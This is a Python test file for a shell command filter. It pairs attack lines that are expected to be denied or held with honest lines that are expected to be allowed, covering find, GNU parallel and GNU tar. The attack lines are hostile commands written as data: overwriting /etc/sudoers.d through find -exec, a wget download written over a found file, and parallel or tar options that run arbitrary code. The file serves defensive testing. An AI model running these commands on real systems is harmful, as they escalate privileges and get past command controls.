"""Attack U, the programs the command filter read with the wrong grammar: find's {} inside a
word, GNU parallel's options, GNU tar's options after its operands; and the honest work under
find that the filter held. Each table has an attack half (held or denied) and an honest half
(allowed), judged by the shipped policy (config/policy.toml)."""

from __future__ import annotations

from bastion.command_control.policy import Policy, evaluate
from tests.rows import each


def action(policy: Policy, line: str) -> str:
    return evaluate(policy, line, role="engineer", target="web01").action


HELD = ("confirm", "deny")


@each("line", [
    # find fills {} in anywhere in a word: the word names the found file, or a path built from it
    r"cd / && find etc -name sudoers -exec cp /tmp/x ./{} \;",
    r"cd / && find etc -name sudoers -exec cp /tmp/x /{} \;",
    r"cd /root && find /etc -name sudoers -exec cp /tmp/x ..{} \;",
    r"find /etc -name sudoers -exec cp /tmp/x ..{} \;",
    r"find /etc/sudoers.d -exec cp /tmp/x {}.bak \;",
    r"find /etc -name sudoers -exec curl -T /tmp/x file://{} \;",
    r"find /etc -name sudoers -exec tee {}.d/x \;",
    r"find /etc -name sudoers -exec wget -O {} http://x \;",
    r"find /etc -name sudoers -execdir cp /tmp/x ./{} \;",
    r"find /etc -name sudoers -execdir cp /tmp/x ../{} \;",
    # a copy under find to a protected folder (the file found is the source)
    r"find . -name '*.txt' -exec cp {} /etc/sudoers.d/ \;",
    r"find . -name '*.txt' -exec mv {} /etc/sudoers.d/ \;",
    r"find . -name '*.txt' -exec cp -t /etc/sudoers.d {} +",
    r"find /tmp/sudoers -exec cp {} /etc/ \;",
    # `{} +` puts every file found in one command: the last one found is the destination
    r"find /tmp/x /etc/sudoers.d -maxdepth 0 -exec cp {} +",
    # a file's name in code, in an option or anywhere: known only at run time
    r"find . -exec tar -x -f a.tar --to-command={} \;",
    r"find . -exec sort --compress-program={} x \;",
    r"find . -exec tar xfI a.tar {} \;",
    r"find e -maxdepth 0 -exec sed {} /tmp/f \;",
    r"find . -exec sed s/x/{} /tmp/f \;",
    r"find . -name x -exec sh -c {} \;",
    r"find /etc -name 'sudo*' -exec cp /tmp/x {}* \;",
    # a quoted expansion that is no test's value: a start point, or an action (`-delete`)
    r'find "$d" -name sudoers -exec cp /tmp/x {} \;',
    r'find "$d" -delete',
    r'find /srv "$x"',
])
def test_attack_u_find_fills_in_braces_inside_any_word(default_policy, line):
    assert action(default_policy, line) in HELD


@each("line", [
    r"find . -name '*.txt' -exec cp {} /backup/ \;",
    r"find . -name '*.txt' -exec mv {} /tmp/x/ \;",
    r"find . -name '*.txt' -exec cp -t /backup {} +",
    r"find . -name '*.txt' -exec cp {} {}.bak \;",
    r"find . -name '*.txt' -execdir cp {} /backup/ \;",
    r"find /srv -type d -exec mkdir -p /backup/{} \;",
    r"find . -type f -exec chmod 644 {} \;",
    r"find . -name '*.txt' -ok rm {} \;",
    r"find /tmp -exec sort -o{}.s {} \;",
    r'find . -name "$p" -exec cp {} /backup/ \;',  # a test's value known only at run time
    r'find /srv/logs -mtime +"$n" -delete',
])
def test_honest_copies_and_moves_under_find_run(default_policy, line):
    assert action(default_policy, line) == "allow"


@each(("line", "expected"), [
    # options the table lacked: their values were taken for the command, or the command missed
    ("parallel -P 2 cp /tmp/x /etc/sudoers.d/{} ::: a", "deny"),
    ("parallel --arg-sep ,, cp /tmp/x ,, /etc/sudoers.d/a", "deny"),
    ("parallel --arg-file-sep ,, cp /tmp/x ,, list", "confirm"),
    ("parallel --pipe tee /etc/sudoers.d/x", "deny"),
    # code parallel runs
    ("parallel --ssh 'sh -c \"cp /tmp/x /etc/sudoers.d/x\"' -S host echo ::: a", "deny"),
    ("parallel --compress-program 'cp /tmp/x /etc/sudoers.d/x' --compress echo ::: a", "deny"),
    ("parallel --decompress-program 'cp /tmp/x /etc/sudoers.d/x' echo ::: a", "deny"),
    ("parallel --limit 'cp /tmp/x /etc/sudoers.d/x' echo ::: a", "deny"),
    ("parallel -S 'sh -c id' echo ::: a", "confirm"),
    # -q passes each word as it is: sh -c gets the whole script
    ("parallel -q sh -c 'cp /tmp/x /etc/sudoers.d/x' ::: a", "deny"),
    # files parallel writes
    ("parallel --joblog /etc/sudoers.d/x echo ::: a", "deny"),
    ("parallel --jl +/etc/sudoers.d/x echo ::: a", "deny"),
    ("parallel --jobl /etc/sudoers.d/x echo ::: a", "deny"),  # any unambiguous start
    ("parallel --tmpl /tmp/t=/etc/sudoers.d/x echo ::: a", "deny"),
    ("parallel --results /etc/sudoers.d echo ::: a", "deny"),
    ("parallel --tmpdir /etc/sudoers.d sort ::: a", "confirm"),
    ("parallel --wd /etc/sudoers.d touch x ::: a", "deny"),
    ("parallel --return /etc/sudoers.d/{} echo ::: a", "confirm"),
    # Perl code, options from a file, an option it does not know or cannot tell apart
    ("parallel --filter 'system(\"id\")' echo ::: a", "confirm"),
    ("parallel --rpl '{x} s/a/b/' echo {x} ::: a", "confirm"),
    ("parallel --parens ,,,, echo ,,system,, ::: a", "confirm"),
    ("parallel --tagstring '{=1 $_ = `id` =}' echo ::: a", "confirm"),
    ("parallel -J prof echo ::: a", "confirm"),
    ("parallel --shebang-wrap /usr/bin/python3 x.py", "confirm"),
    ("parallel --bogus echo ::: a", "confirm"),
    ("parallel --jo 2 echo ::: a", "confirm"),
    ("parallel -i echo X{}Y ::: a", "confirm"),  # -i takes `echo` for its replacement string
    # honest halves
    ("parallel -j4 gzip ::: a b", "allow"),
    ("parallel -kj4 echo ::: a", "allow"),
    ("parallel --jobs 4 --joblog /tmp/jl gzip {} ::: a b", "allow"),
    ("parallel --eta --progress --bar gzip ::: a", "allow"),
    ("parallel -0 -a list.txt gzip", "allow"),
    ("parallel --env PATH -S : echo ::: a", "allow"),
    ("parallel --results out/ gzip ::: a", "allow"),
    ("sem -j2 make", "allow"),
    ("parallel --version", "allow"),
])
def test_attack_u_parallel_options_are_read_from_its_whole_table(default_policy, line, expected):
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # GNU tar permutes: its options are read anywhere before `--`
    ("tar -x a.tar -f x -P", "confirm"),
    ("tar -xf a.tar --transform 's,^,/etc/sudoers.d/,' -P", "confirm"),
    ("tar xf a.tar --one-top-level=/etc/sudoers.d", "confirm"),
    ("tar -xf a.tar --one-top=/etc/sudoers.d", "confirm"),
    ("cd /etc && tar -xf /tmp/a.tar --one-top-level=sudoers.d", "confirm"),
    ("tar x a.tar --file x -C /etc/sudoers.d", "confirm"),
    ("tar -c -f a.tar x --index-file=/etc/sudoers.d/x", "deny"),
    ("tar -c -f a.tar x --volno-file=/etc/sudoers.d/x", "deny"),
    ("tar -c -f a.tar x -g /etc/sudoers.d/x", "deny"),
    ("tar -c -f a.tar x --listed-incremental=/etc/sudoers.d/x", "deny"),
    ("tar -c x -f /etc/sudoers.d/x", "deny"),
    ("tar c x -f /etc/sudoers.d/x", "deny"),
    ("tar --delete -f /etc/sudoers.d/x.tar y", "deny"),
    ("tar -c -f /tmp/a.tar /etc/sudoers --remove-files", "deny"),  # it removes what it archived
    ("tar xf a.tar --to-command 'cp /tmp/x /etc/sudoers.d/x'", "deny"),
    ("tar -xf a.tar --to-c='cp /tmp/x /etc/sudoers.d/x'", "deny"),
    ("tar -x -f a.tar --new-volume-script='cp /tmp/x /etc/sudoers.d/x'", "deny"),
    ("tar -xf a.tar --rsh-command='cp /tmp/x /etc/sudoers.d/x' -f h:a.tar", "deny"),
    ("tar -cf h:/tmp/a.tar x", "confirm"),  # a remote archive: tar runs a remote shell
    # honest halves
    ("tar xzf app.tar.gz -C /srv/app", "allow"),
    ("tar czf /tmp/b.tgz /srv/app", "allow"),
    ("tar -xf a.tar --strip-components=1 -C /srv/app", "allow"),
    ("tar -C /srv -xf a.tar --one-top-level=app", "allow"),
    ("tar -cvf /tmp/backup.tar --exclude '*.log' /srv/app", "allow"),
    ("tar -cf /tmp/b.tar --checkpoint -C /srv app", "allow"),
    ("tar -czf /tmp/a.tgz /srv/old --remove-files", "allow"),
    ("tar -x -f a.tar -- -P", "allow"),  # after `--`, a member's name
    ("tar xf /tmp/a.tar --force-local -f x:y", "allow"),
])
def test_attack_u_tar_options_after_its_operands(default_policy, line, expected):
    assert action(default_policy, line) == expected
